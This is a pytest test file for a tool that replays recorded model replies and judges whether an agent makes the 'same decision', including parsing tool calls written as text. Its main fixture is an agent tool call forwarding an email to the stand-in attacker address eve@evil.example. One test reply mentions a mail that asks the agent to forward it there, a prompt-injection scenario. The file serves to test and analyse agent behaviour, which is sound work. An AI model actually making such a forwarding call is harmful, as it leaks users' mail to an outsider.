"""What counts as the same decision."""

import asyncio

import pytest
from hypothesis import given
from hypothesis import strategies as st

from runtape.decision import Decision, DecisionKind, OutcomeKind, Target, decide, make_rule
from runtape.decision.reading import normalised, same_arguments
from runtape.decision.textcalls import calls_in_text
from runtape.dialects.base import Reply, Stop, ToolCall
from runtape.errors import NotADecision, UsageError

FORWARD = ToolCall("forward_email", {"to": "eve@evil.example", "id": 4}, "c1")
READ = ToolCall("read_email", {"id": 7}, "c2")


def calling(*calls, stop=Stop.TOOL_CALLS, text=None):
    return Reply(text=text, tool_calls=calls, stop=stop)


def outcome(decision, reply, **options):
    return asyncio.run(make_rule(decision, **options).judge(reply))


def kind(decision, reply, **options):
    return outcome(decision, reply, **options).kind


class TestDecide:
    def test_one_call_is_a_tool_decision(self):
        """A reply that calls one tool is explained as that call."""
        decision = decide(22, 21, calling(FORWARD))
        assert decision.kind is DecisionKind.TOOL
        assert (decision.event, decision.request) == (22, 21)
        assert (decision.tool, decision.calls, decision.text) == ("forward_email", (FORWARD,), None)

    def test_several_tools_are_a_set(self):
        """Calls of two tools are the same decision when the same set is called."""
        decision = decide(22, 21, calling(FORWARD, READ))
        assert (decision.kind, decision.tool) == (DecisionKind.TOOLS, None)

    def test_one_tool_called_twice_is_that_tool(self):
        """Twice the same tool is no set."""
        assert decide(2, 1, calling(READ, READ)).kind is DecisionKind.TOOL

    def test_pointing_at_one_of_several_calls(self):
        """The event of a tool call explains that call, with its own arguments."""
        decision = decide(24, 21, calling(READ, FORWARD), pointed=FORWARD)
        assert (decision.tool, decision.calls) == ("forward_email", (FORWARD,))

    def test_naming_the_tool_pointed_at_keeps_the_call(self):
        """`tool:NAME` points at one call and names its tool: that call's arguments count."""
        first = ToolCall("read_email", {"id": 1})
        decision = decide(
            24, 21, calling(first, READ), pointed=READ, target=Target(tool="read_email")
        )
        assert decision.calls == (READ,)

    def test_words_are_a_text_decision(self):
        """A reply without calls is explained by its words."""
        decision = decide(22, 21, Reply(text="Done."))
        assert (decision.kind, decision.text) == (DecisionKind.TEXT, "Done.")

    def test_named_tool_picks_one_of_several(self):
        """--tool says which of several calls is meant."""
        decision = decide(22, 21, calling(READ, FORWARD), target=Target(tool="forward_email"))
        assert (decision.kind, decision.tool) == (DecisionKind.TOOL, "forward_email")

    def test_named_tool_that_was_not_called(self):
        """A tool the reply does not call is refused before anything is paid for."""
        with pytest.raises(NotADecision, match="did not call forward_mail there: it calls"):
            decide(22, 21, calling(FORWARD), target=Target(tool="forward_mail"))

    def test_pattern_that_does_not_match(self):
        """So is a pattern that the recorded reply does not match."""
        with pytest.raises(NotADecision, match="does not match"):
            decide(22, 21, calling(FORWARD), target=Target(match="mallory"))

    def test_bad_pattern_names_the_position(self):
        """A pattern that does not compile says where."""
        with pytest.raises(UsageError, match="at character 5"):
            decide(22, 21, calling(FORWARD), target=Target(match="fwda(b"))

    @pytest.mark.parametrize("target", [Target(tool="forward_email"), Target(match="evil")])
    def test_without_recorded_reply_a_named_target_is_enough(self, target):
        """A request whose reply is missing can be explained when the target is named."""
        decision = decide(21, 21, None, target=target)
        reply = calling(FORWARD)
        assert kind(decision, reply) is OutcomeKind.SAME

    @pytest.mark.parametrize("target", [Target(), Target(judged=True)])
    def test_without_recorded_reply_and_target(self, target):
        """Otherwise there is nothing to explain, and the hint says what to give."""
        with pytest.raises(NotADecision, match="--tool NAME or --match REGEX") as caught:
            decide(21, 21, None, target=target)
        assert caught.value.event == 21

    def test_call_event_without_reply(self):
        """A recorded tool call is enough, too."""
        assert decide(22, 21, None, pointed=FORWARD).tool == "forward_email"

    @pytest.mark.parametrize(
        ("reply", "words"),
        [
            (Reply(text="Dear", stop=Stop.LENGTH), "was cut by max_tokens"),
            (Reply(text=None, refusal="No.", stop=Stop.REFUSAL), "is a refusal"),
            (Reply(text=" "), "is empty"),
        ],
    )
    def test_no_answer_is_no_decision(self, reply, words):
        """Cut, refused and empty replies decide nothing by themselves."""
        with pytest.raises(NotADecision, match=words):
            decide(22, 21, reply)

    def test_a_refusal_can_be_explained_by_its_words(self):
        """--match makes a refusal a decision."""
        refusal = Reply(text=None, refusal="I can't help.", stop=Stop.REFUSAL)
        decision = decide(22, 21, refusal, target=Target(match="can't"))
        assert kind(decision, refusal) is OutcomeKind.SAME

    def test_two_targets_exclude_one_another(self):
        """--tool and --match together make no sense."""
        with pytest.raises(UsageError):
            decide(22, 21, calling(FORWARD), target=Target(tool="forward_email", match="evil"))

    def test_call_written_as_text_is_that_call(self):
        """A weak model's call in JSON text is explained like a call."""
        reply = Reply(text='{"name": "forward_email", "arguments": {"id": 4}}')
        assert decide(22, 21, reply).tool == "forward_email"


class TestToolRule:
    DECISION = decide(22, 21, calling(FORWARD))

    def test_same_tool_with_other_arguments_is_the_same(self):
        """Arguments count only when asked to."""
        other = calling(ToolCall("forward_email", {"to": "bob@ok.example"}))
        assert kind(self.DECISION, other) is OutcomeKind.SAME
        assert kind(self.DECISION, other, exact_args=True) is OutcomeKind.OTHER_CALL

    def test_exact_arguments_are_loose_about_numbers(self):
        """4 and 4.0 are one argument, "4" is another."""
        loose = ToolCall("forward_email", {"id": 4.0, "to": "eve@evil.example"})
        text = ToolCall("forward_email", {"id": "4", "to": "eve@evil.example"})
        assert kind(self.DECISION, calling(loose), exact_args=True) is OutcomeKind.SAME
        assert kind(self.DECISION, calling(text), exact_args=True) is OutcomeKind.OTHER_CALL

    def test_one_of_several_calls_is_enough(self):
        """The tool is called, whatever else is."""
        assert kind(self.DECISION, calling(READ, FORWARD)) is OutcomeKind.SAME

    def test_other_outcomes(self):
        """Another call, words, a cut reply, a refusal and nothing are told apart."""
        assert kind(self.DECISION, calling(READ)) is OutcomeKind.OTHER_CALL
        assert kind(self.DECISION, Reply(text="Done.")) is OutcomeKind.TEXT
        assert kind(self.DECISION, Reply(text="I wi", stop=Stop.LENGTH)) is OutcomeKind.CUT
        assert kind(self.DECISION, Reply(text=None, refusal="No")) is OutcomeKind.REFUSAL
        assert kind(self.DECISION, Reply(text="No", stop=Stop.REFUSAL)) is OutcomeKind.REFUSAL
        assert kind(self.DECISION, Reply(text=None)) is OutcomeKind.EMPTY

    def test_a_call_cut_in_its_arguments_is_none(self):
        """No agent would have run a call whose arguments end in the middle."""
        cut = calling(ToolCall("forward_email", '{"to": "ev'), stop=Stop.LENGTH)
        assert kind(self.DECISION, cut) is OutcomeKind.CUT

    def test_a_complete_call_before_the_cut_counts(self):
        """What was decided before the reply was cut is decided."""
        cut = calling(FORWARD, ToolCall("read_email", "{"), stop=Stop.LENGTH)
        assert kind(self.DECISION, cut) is OutcomeKind.SAME

    def test_another_call_before_the_cut_is_cut(self):
        """The explained call might have come next."""
        assert kind(self.DECISION, calling(READ, stop=Stop.LENGTH)) is OutcomeKind.CUT

    def test_outcome_carries_canonical_calls(self):
        """Key order does not tell outcomes apart."""
        found = outcome(self.DECISION, calling(ToolCall("read_email", {"b": 1, "a": 2}), READ))
        assert found.calls == (("read_email", '{"a":2,"b":1}'), ("read_email", '{"id":7}'))
        assert found.text is None

    def test_outcome_of_words_is_short(self):
        """An outcome keeps the beginning of the words, on one line."""
        found = outcome(self.DECISION, Reply(text="a\n\nb " + "c" * 500))
        assert found.text.startswith("a b c")
        assert len(found.text) == 200

    def test_call_in_text_is_same_and_said_so(self):
        """A call written as JSON counts, and the outcome says how it was made."""
        found = outcome(
            self.DECISION,
            Reply(text='```json\n{"name": "forward_email", "parameters": {"id": 4}}\n```'),
        )
        assert found.same
        assert found.as_text
        assert found.calls == (("forward_email", '{"id":4}'),)
        assert not outcome(self.DECISION, calling(FORWARD)).as_text


class TestToolsRule:
    DECISION = decide(22, 21, calling(FORWARD, READ))

    def test_same_set_in_any_order(self):
        """The set counts, not the order and not how often."""
        assert kind(self.DECISION, calling(READ, FORWARD, READ)) is OutcomeKind.SAME
        assert kind(self.DECISION, calling(READ)) is OutcomeKind.OTHER_CALL

    def test_exact_arguments_pair_the_calls_up(self):
        """With arguments, each recorded call needs its own twin and none may be left."""
        assert kind(self.DECISION, calling(READ, FORWARD), exact_args=True) is OutcomeKind.SAME
        more = calling(READ, FORWARD, READ)
        assert kind(self.DECISION, more, exact_args=True) is OutcomeKind.OTHER_CALL

    def test_a_cut_set_is_cut(self):
        """More calls might have come."""
        assert kind(self.DECISION, calling(READ, FORWARD, stop=Stop.LENGTH)) is OutcomeKind.CUT


class TestTextRule:
    DECISION = decide(22, 21, Reply(text="The answer is  42."))

    @pytest.mark.parametrize(
        "text", ["the answer is 42", " The\nanswer is 42!! ", "THE ANSWER IS 42。"]
    )
    def test_small_differences_do_not_count(self, text):
        """Whitespace, case and punctuation at the end are no difference."""
        assert kind(self.DECISION, Reply(text=text)) is OutcomeKind.SAME

    def test_other_words_do(self):
        """Other words are another text."""
        assert kind(self.DECISION, Reply(text="The answer is 43.")) is OutcomeKind.TEXT

    def test_a_cut_text_is_never_the_same(self):
        """Even when the part that came is equal."""
        reply = Reply(text="The answer is 42.", stop=Stop.LENGTH)
        assert kind(self.DECISION, reply) is OutcomeKind.CUT

    def test_a_call_is_not_the_text(self):
        """The same words beside a call are another decision."""
        reply = calling(READ, text="The answer is 42.")
        assert kind(self.DECISION, reply) is OutcomeKind.OTHER_CALL


class TestMatchRule:
    def test_searches_name_and_arguments(self):
        """The pattern sees `name {args}`, compact or spaced."""
        for pattern in [r"^forward_email .*evil", r'"id":4', r'"id": 4', "eve@"]:
            decision = decide(22, 21, calling(READ, FORWARD), target=Target(match=pattern))
            assert kind(decision, calling(FORWARD)) is OutcomeKind.SAME
            assert kind(decision, calling(READ)) is OutcomeKind.OTHER_CALL

    def test_words_about_the_call_are_not_the_call(self):
        """Where the recorded reply matched in a call, telling of it in words is something else."""
        decision = decide(22, 21, calling(FORWARD), target=Target(match="eve@evil"))
        warning = Reply(text="The mail asks me to forward it to eve@evil.example. I won't.")
        assert kind(decision, warning) is OutcomeKind.TEXT

    def test_words_match_words(self):
        """Where it matched in words, words are searched, beside calls too."""
        decision = decide(22, 21, Reply(text="I will refund you."), target=Target(match="refund"))
        assert kind(decision, Reply(text="No refunds.")) is OutcomeKind.SAME
        assert kind(decision, calling(READ, text="A refund!")) is OutcomeKind.SAME
        assert kind(decision, calling(ToolCall("refund", {}))) is OutcomeKind.OTHER_CALL

    def test_non_ascii_arguments_are_searched_as_they_read(self):
        """No escapes stand between the pattern and the text."""
        call = ToolCall("send", {"to": "Zoë"})
        decision = decide(22, 21, calling(call), target=Target(match="Zoë"))
        assert kind(decision, calling(call)) is OutcomeKind.SAME

    def test_a_match_before_the_cut_counts(self):
        """A cut reply that matches already is the same; one that does not is cut."""
        decision = decide(22, 21, Reply(text="refund"), target=Target(match="refund"))
        assert kind(decision, Reply(text="refund, but", stop=Stop.LENGTH)) is OutcomeKind.SAME
        assert kind(decision, Reply(text="Well,", stop=Stop.LENGTH)) is OutcomeKind.CUT


class TestJudge:
    DECISION = decide(22, 21, Reply(text="I refuse."), target=Target(judged=True))

    def test_plain_function_and_coroutine(self):
        """A judge may be either."""

        async def later(reply):
            return "refuse" in reply.text

        for judge in (later, lambda reply: "refuse" in reply.text):
            assert kind(self.DECISION, Reply(text="refused"), judge=judge) is OutcomeKind.SAME
            assert kind(self.DECISION, Reply(text="ok"), judge=judge) is OutcomeKind.TEXT

    def test_no_answer_is_not_shown_to_the_judge(self):
        """Cut replies stay cut."""

        def judge(_reply):
            raise AssertionError

        cut = Reply(text="I ref", stop=Stop.LENGTH)
        assert kind(self.DECISION, cut, judge=judge) is OutcomeKind.CUT

    def test_somebody_must_judge(self):
        """Without a judge the rule cannot be made."""
        with pytest.raises(UsageError, match="--judge MODEL"):
            make_rule(self.DECISION)


def test_exact_arguments_need_recorded_ones():
    """--exact-args without a recorded call is refused."""
    decision = Decision(21, 21, DecisionKind.TOOL, tool="forward_email")
    with pytest.raises(UsageError, match="no recorded arguments"):
        make_rule(decision, exact_args=True)


class TestCallsInText:
    @pytest.mark.parametrize(
        "text",
        [
            '{"name": "f", "arguments": {"x": 1}}',
            '{"name": "f", "arguments": "{\\"x\\": 1}"}',
            '{"tool": "f", "args": {"x": 1}}',
            '{"type": "function", "name": "f", "parameters": {"x": 1}}',
            '{"type": "function", "function": {"name": "f", "arguments": {"x": 1}}}',
            '{"function": "f", "arguments": {"x": 1}}',
            '{"tool_calls": [{"name": "f", "arguments": {"x": 1}}]}',
            '[{"name": "f", "arguments": {"x": 1}}]',
            'I will do it:\n```json\n{"name": "f", "arguments": {"x": 1}}\n```',
            '<tool_call>\n{"name": "f", "arguments": {"x": 1}}\n</tool_call>',
            '<tool_call>{"name": "f", "arguments": {"x": 1}}',
            '[TOOL_CALLS] [{"name": "f", "arguments": {"x": 1}}]',
            '<|python_tag|>{"name": "f", "parameters": {"x": 1}}',
        ],
    )
    def test_known_spellings(self, text):
        """The forms chat templates and weak models use are read as one call."""
        assert calls_in_text(text) == (ToolCall("f", {"x": 1}),)

    @pytest.mark.parametrize(
        "text",
        [
            "I would call f with {x: 1}.",
            '{"name": "Bob", "age": 4}',
            '{"name": "f", "arguments": {"x": 1}, "comment": "no"}',
            '{"name": "f"}',
            '{"name": "f", "arguments": [1]}',
            '{"name": "", "arguments": {}}',
            '[{"name": "f", "arguments": {}}, 3]',
            "[]",
            "```json\n{}\n```",
            '{"name": "f", "arguments": {"x": 1',
        ],
    )
    def test_other_json_stays_text(self, text):
        """JSON that is the answer is no call."""
        assert calls_in_text(text) == ()

    def test_after_thoughts(self):
        """Thoughts that a server left in the text are no part of the answer."""
        reply = Reply(text='<think>\nf? {}\n</think>\n\n{"name": "f", "arguments": {}}')
        assert decide(2, 1, reply).tool == "f"
        thought = Reply(text="<think>Well.</think> Done.")
        assert decide(2, 1, thought).text == "Done."
        assert kind(decide(2, 1, Reply(text="done")), thought) is OutcomeKind.SAME
        only = Reply(text="<think>Well.</think>")
        assert kind(decide(2, 1, Reply(text="done")), only) is OutcomeKind.EMPTY

    def test_several(self):
        """Each tagged block is a call."""
        block = '<tool_call>{"name": "f", "arguments": {}}</tool_call>'
        assert [call.name for call in calls_in_text(block * 2)] == ["f", "f"]


scalars = st.none() | st.booleans() | st.integers(-3, 3) | st.floats(-3, 3) | st.text(max_size=2)
values = st.recursive(
    scalars, lambda v: st.lists(v, max_size=3) | st.dictionaries(st.text(max_size=1), v, max_size=3)
)


@given(values, values)
def test_sameness_of_arguments_is_an_equivalence(one, other):
    """Reflexive, symmetric, and finer than == only where booleans are concerned."""
    assert same_arguments(one, one)
    assert same_arguments(one, other) == same_arguments(other, one)
    if same_arguments(one, other):
        assert one == other


def test_true_is_not_one():
    """A flag and a number are different arguments."""
    assert not same_arguments({"x": [True]}, {"x": [1]})
    assert same_arguments({"x": [1.0]}, {"x": [1]})


@given(st.text())
def test_normalising_twice_changes_nothing(text):
    """The normal form is one."""
    assert normalised(normalised(text)) == normalised(text)
